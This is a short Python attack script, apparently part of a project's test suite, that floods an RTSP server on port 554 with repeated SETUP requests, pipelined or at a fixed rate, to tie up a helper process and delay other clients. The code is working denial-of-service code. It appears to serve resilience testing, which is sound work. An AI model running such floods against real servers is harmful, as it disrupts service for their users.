"""The same SETUPs again and again, of ports that the attacker may ask for: pipelined, or at a steady rate.

It hopes that each costs the helper so much that other boxes wait behind them.
"""

from __future__ import annotations

import contextlib
import socket
import threading

from tests.attacks import wire
from tests.attacks.packet import setup


def attack(
    _wire: wire.Wire,
    server: str = "172.26.83.10",
    port: int = 30000,
    ports: int = 4,
    pipelined: int = 0,
    rate: float = 500.0,
    seconds: float = 2.0,
) -> int:
    connection = socket.create_connection((server, 554), 5)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    threading.Thread(target=_read, args=(connection,), daemon=True).start()
    sent = 0
    if pipelined:
        connection.sendall(b"".join(setup(port + number % ports, number) for number in range(pipelined)))
        sent = pipelined
        for _ in wire.pace(10, seconds):  # the connection stays: its end would end the work
            pass
    else:
        for number in wire.pace(rate, seconds):
            connection.sendall(setup(port + number % ports, number))
            sent += 1
    connection.close()
    return sent


def _read(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


if __name__ == "__main__":
    wire.run(attack)
